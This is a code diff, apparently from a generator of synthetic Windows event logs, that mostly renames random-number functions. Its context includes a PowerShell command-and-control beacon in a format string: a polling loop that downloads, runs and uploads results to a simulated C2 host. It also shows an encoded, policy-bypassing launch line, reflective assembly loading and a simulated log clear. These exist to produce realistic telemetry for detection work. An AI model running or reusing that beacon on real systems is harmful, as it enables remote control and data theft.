@@ -102,9 +102,9 @@ static const char *bare(char out[37], const char g[39])
     return out;
 }
 
-static void guid(char out[39], sk_rng *r)
+static void guid(char out[39], sim_rng *r)
 {
-    uint64_t a = sk_rng_next(r), b = sk_rng_next(r);
+    uint64_t a = sim_rng_next(r), b = sim_rng_next(r);
     snprintf(out, 39, "{%08x-%04x-%04x-%04x-%012llx}", (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xffff,
              (unsigned)a & 0xffff, (unsigned)(b >> 48), (unsigned long long)(b & 0xffffffffffffull));
 }
@@ -226,7 +226,7 @@ typedef struct proc {
     char guid[39];
 } proc;
 
-static int process_start(host_log *hl, sk_rng *r, sk_time t, const proc *p, int sysmon, int cmdline)
+static int process_start(host_log *hl, sim_rng *r, sk_time t, const proc *p, int sysmon, int cmdline)
 {
     char pid[16], ppid[16], hexpid[16], hexppid[16];
     snprintf(pid, sizeof pid, "%d", p->pid);
@@ -286,8 +286,8 @@ static int host_events(host_log *hl)
     const sim_scenario *sc = w->sc;
     sk_time ws, we;
     sim_log_window(w, &ws, &we);
-    sk_rng r;
-    sk_rng_init(&r, w->seed, "events", hl->host);
+    sim_rng r;
+    sim_rng_init(&r, w->seed, "events", hl->host);
     int sysmon = (h->coverage & SIM_COV_SYSMON) != 0, cmdline = (h->coverage & SIM_COV_CMDLINE) != 0;
     const char *user = h->user != UINT32_MAX ? w->users[h->user].sam : "svc-admin";
     char dom_user[64];
@@ -299,33 +299,33 @@ static int host_events(host_log *hl)
         sk_time mid = t0 + 12 * HOUR_NS;
         uint32_t ip;
         if (!sim_host_online(w, hl->host, mid, &ip) && !sim_host_online(w, hl->host, t0 + 3 * HOUR_NS, &ip)) continue;
-        sk_time logon = t0 + (sk_time)sk_rng_range(&r, 0, 86399) * SEC;
+        sk_time logon = t0 + (sk_time)sim_rng_range(&r, 0, 86399) * SEC;
         if (logon < ws || logon >= we) continue;
         char lid[24];
-        snprintf(lid, sizeof lid, "0x%llx", (unsigned long long)(0x100000 + sk_rng_below(&r, 0xffffff)));
+        snprintf(lid, sizeof lid, "0x%llx", (unsigned long long)(0x100000 + sim_rng_below(&r, 0xffffff)));
         kv lg[] = {{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "-"}, {"TargetUserName", user},
                    {"TargetDomainName", sc->netbios_domain}, {"TargetLogonId", lid}, {"LogonType", "2"},
                    {"LogonProcessName", "User32"}, {"AuthenticationPackageName", "Negotiate"},
                    {"WorkstationName", h->name}, {"IpAddress", "127.0.0.1"}};
         rc = add(hl, logon, CH_SECURITY, 4624, lg, sizeof lg / sizeof lg[0]);
-        unsigned n = (unsigned)(sk_rng_range(&r, 20, 80) * sc->benign_density + 0.5);
+        unsigned n = (unsigned)(sim_rng_range(&r, 20, 80) * sc->benign_density + 0.5);
         for (unsigned k = 0; k < n && !rc; k++) {
-            size_t p = (size_t)sk_rng_below(&r, N_BENIGN_PROCS);
-            sk_time t = t0 + (sk_time)sk_rng_range(&r, 0, 86399) * SEC + (sk_time)sk_rng_below(&r, 1000) * 1000000;
+            size_t p = (size_t)sim_rng_below(&r, N_BENIGN_PROCS);
+            sk_time t = t0 + (sk_time)sim_rng_range(&r, 0, 86399) * SEC + (sk_time)sim_rng_below(&r, 1000) * 1000000;
             if (t < ws || t >= we) continue;
             proc pr = {.image = benign_procs[p].image, .cmdline = benign_procs[p].image,
                        .parent_image = benign_procs[p].parent, .parent_cmdline = benign_procs[p].parent,
                        .orig = benign_procs[p].orig, .desc = benign_procs[p].desc, .company = benign_procs[p].company,
                        .product = benign_procs[p].product, .user = dom_user, .fileversion = benign_procs[p].fileversion,
-                       .pid = (int)sk_rng_range(&r, 400, 30000), .ppid = (int)sk_rng_range(&r, 400, 30000)};
+                       .pid = (int)sim_rng_range(&r, 400, 30000), .ppid = (int)sim_rng_range(&r, 400, 30000)};
             guid(pr.guid, &r);
             rc = process_start(hl, &r, t, &pr, sysmon, cmdline);
             /* browsers, Office and the AV updater go online: DNS and a connection to the proxy */
-            if (!rc && sysmon && (p == 2 || p == 3 || p == 8) && sk_rng_chance(&r, 0.7)) {
+            if (!rc && sysmon && (p == 2 || p == 3 || p == 8) && sim_rng_chance(&r, 0.7)) {
                 static const char *const names[] = {"www.google.com", "outlook.office365.com", "update.example-av.co.jp",
                                                      "graph.microsoft.com", "content.dropboxapi.com", "www.googleapis.com",
                                                      "teams.microsoft.com", "login.microsoftonline.com"};
-                const char *q = p == 8 ? names[2] : names[sk_rng_below(&r, 8)];
+                const char *q = p == 8 ? names[2] : names[sim_rng_below(&r, 8)];
                 char utc[40], pid[16];
                 sk_time_format(utc, t, 3);
                 snprintf(pid, sizeof pid, "%d", pr.pid);
@@ -338,7 +338,7 @@ static int host_events(host_log *hl)
                     char src[16], dst[16], sport[8];
                     sim_ip_str(addr, src);
                     sim_ip_str(w->hosts[w->sites[h->site].proxy].ip, dst);
-                    snprintf(sport, sizeof sport, "%u", (unsigned)(49152 + sk_rng_below(&r, 16000)));
+                    snprintf(sport, sizeof sport, "%u", (unsigned)(49152 + sim_rng_below(&r, 16000)));
                     kv nc[] = {{"RuleName", "-"}, {"Image", pr.image}, {"User", dom_user}, {"Protocol", "tcp"},
                                {"Initiated", "true"}, {"SourceIsIpv6", "false"}, {"SourceIp", src},
                                {"SourcePort", sport}, {"DestinationIsIpv6", "false"}, {"DestinationIp", dst},
@@ -348,7 +348,7 @@ static int host_events(host_log *hl)
             }
         }
         /* administrators' and management tools' PowerShell: encoded commands too */
-        if (!rc && sk_rng_chance(&r, 0.08)) {
+        if (!rc && sim_rng_chance(&r, 0.08)) {
             static const char *const admin_scripts[] = {
                 "Get-WmiObject -Class Win32_QuickFixEngineering | Select-Object HotFixID,InstalledOn",
                 "Get-ChildItem -Path C:\\Windows\\CCM\\Logs -Filter *.log | Measure-Object",
@@ -357,12 +357,12 @@ static int host_events(host_log *hl)
                 {{"Get-WmiObject", "Class=Win32_QuickFixEngineering"}, {"Select-Object", "Property=HotFixID, InstalledOn"}},
                 {{"Get-ChildItem", "Path=C:\\Windows\\CCM\\Logs\nFilter=*.log"}, {"Measure-Object", ""}},
                 {{"Get-Service", "Name=ccmexec"}, {NULL, NULL}}};
-            size_t which = (size_t)sk_rng_below(&r, 3);
+            size_t which = (size_t)sim_rng_below(&r, 3);
             const char *script = admin_scripts[which];
             char enc[1600], cmd[1800];
             encode_command(enc, sizeof enc, script);
             snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand %s", enc);
-            sk_time t = t0 + (sk_time)sk_rng_range(&r, 0, 86399) * SEC;
+            sk_time t = t0 + (sk_time)sim_rng_range(&r, 0, 86399) * SEC;
             if (t >= ws && t < we) {
                 char phash[80];
                 powershell_hashes(w, hl->host, phash);
@@ -371,7 +371,7 @@ static int host_events(host_log *hl)
                            .orig = "PowerShell.EXE", .desc = "Windows PowerShell", .company = "Microsoft Corporation",
                            .product = "Microsoft\xc2\xae Windows\xc2\xae Operating System", .user = "NT AUTHORITY\\SYSTEM",
                            .fileversion = "10.0.17763.1 (WinBuild.160101.0800)", .hashes = phash,
-                           .pid = (int)sk_rng_range(&r, 400, 30000), .ppid = (int)sk_rng_range(&r, 400, 30000)};
+                           .pid = (int)sim_rng_range(&r, 400, 30000), .ppid = (int)sim_rng_range(&r, 400, 30000)};
                 guid(pr.guid, &r);
                 rc = process_start(hl, &r, t, &pr, sysmon, cmdline);
                 char sbid[39], sbb[37];
@@ -397,16 +397,16 @@ static int host_events(host_log *hl)
                  "$u='https://%s/';$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');"
                  "while($true){try{$c=$w.DownloadString($u+'%08x');if($c){$r=[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c)));$o=& $r 2>&1|Out-String;"
                  "$w.UploadString($u+'r',[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($o)))|Out-Null}}catch{};Start-Sleep -s %d}",
-                 c2, (unsigned)(sk_rng_next(&r) & 0xffffffffu), v->n_c2 ? (int)v->c2[0].interval_s : 300);
+                 c2, (unsigned)(sim_rng_next(&r) & 0xffffffffu), v->n_c2 ? (int)v->c2[0].interval_s : 300);
         /* the in-memory payload, base64 as stagers carry it: 40-90 KB */
         {
             static const char b64c[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-            sk_rng pr;
-            sk_rng_init(&pr, w->seed, "payload", (uint64_t)h->campaign);
-            size_t want = (size_t)sk_rng_range(&pr, 40000, 90000);
+            sim_rng pr;
+            sim_rng_init(&pr, w->seed, "payload", (uint64_t)h->campaign);
+            size_t want = (size_t)sim_rng_range(&pr, 40000, 90000);
             size_t at = (size_t)sn;
             at += (size_t)snprintf(script + at, sizeof script - at, ";$p='");
-            for (size_t q = 0; q < want && at + 64 < sizeof script; q++) script[at++] = b64c[sk_rng_below(&pr, 64)];
+            for (size_t q = 0; q < want && at + 64 < sizeof script; q++) script[at++] = b64c[sim_rng_below(&pr, 64)];
             snprintf(script + at, sizeof script - at, "';$a=[Reflection.Assembly]::Load([Convert]::FromBase64String($p))");
         }
         char enc[6000], cmd[6400];
@@ -422,7 +422,7 @@ static int host_events(host_log *hl)
                        .orig = "PowerShell.EXE", .desc = "Windows PowerShell", .company = "Microsoft Corporation",
                        .product = "Microsoft\xc2\xae Windows\xc2\xae Operating System", .user = dom_user,
                        .fileversion = "10.0.17763.1 (WinBuild.160101.0800)",
-                       .pid = (int)sk_rng_range(&r, 400, 30000), .ppid = 1104};
+                       .pid = (int)sim_rng_range(&r, 400, 30000), .ppid = 1104};
             char hashes[80];
             powershell_hashes(w, hl->host, hashes);
             pr.hashes = hashes;
@@ -489,7 +489,7 @@ static int host_events(host_log *hl)
                     char src[16], dst[16], sport[8];
                     sim_ip_str(ip, src);
                     sim_ip_str(w->hosts[w->sites[h->site].proxy].ip, dst);
-                    snprintf(sport, sizeof sport, "%u", (unsigned)(49152 + sk_rng_below(&r, 16000)));
+                    snprintf(sport, sizeof sport, "%u", (unsigned)(49152 + sim_rng_below(&r, 16000)));
                     kv nc[] = {{"RuleName", "-"}, {"Image", renamed}, {"User", dom_user}, {"Protocol", "tcp"},
                                {"Initiated", "true"}, {"SourceIsIpv6", "false"}, {"SourceIp", src},
                                {"SourcePort", sport}, {"DestinationIsIpv6", "false"}, {"DestinationIp", dst},
@@ -611,11 +611,11 @@ static int run_events(void *ctx, size_t from, size_t to, sim_out *o, uint64_t *r
         sk_buf_reset(&hl.pool);
         rc = host_events(&hl);
         if (rc) break;
-        qsort(hl.r, hl.n, sizeof *hl.r, cmp_rec);
-        sk_rng r;
-        sk_rng_init(&r, w->seed, "record-ids", hi);
+        sim_sort(hl.r, hl.n, sizeof *hl.r, cmp_rec);
+        sim_rng r;
+        sim_rng_init(&r, w->seed, "record-ids", hi);
         uint64_t ids[N_CH];
-        for (int c = 0; c < N_CH; c++) ids[c] = 1000 + sk_rng_below(&r, 900000);
+        for (int c = 0; c < N_CH; c++) ids[c] = 1000 + sim_rng_below(&r, 900000);
         sk_time clear_at = SK_TIME_NONE;
         size_t clear_by = SIZE_MAX;
         int benign_clear = 0;
@@ -640,8 +640,8 @@ static int run_events(void *ctx, size_t from, size_t to, sim_out *o, uint64_t *r
                 /* drop this host's earlier Security records from the output; keep the rest */
                 sk_buf_reset(&out);
                 uint64_t again[N_CH];
-                sk_rng_init(&r, w->seed, "record-ids", hi);
-                for (int c = 0; c < N_CH; c++) again[c] = 1000 + sk_rng_below(&r, 900000);
+                sim_rng_init(&r, w->seed, "record-ids", hi);
+                for (int c = 0; c < N_CH; c++) again[c] = 1000 + sim_rng_below(&r, 900000);
                 for (size_t k = 0; k < i && !rc; k++)
                     if (hl.r[k].ch != CH_SECURITY) rc = write_record(&out, &hl, &hl.r[k], again[hl.r[k].ch]++, fqdn);
                 ids[CH_SYSMON] = again[CH_SYSMON], ids[CH_PS_OPERATIONAL] = again[CH_PS_OPERATIONAL];
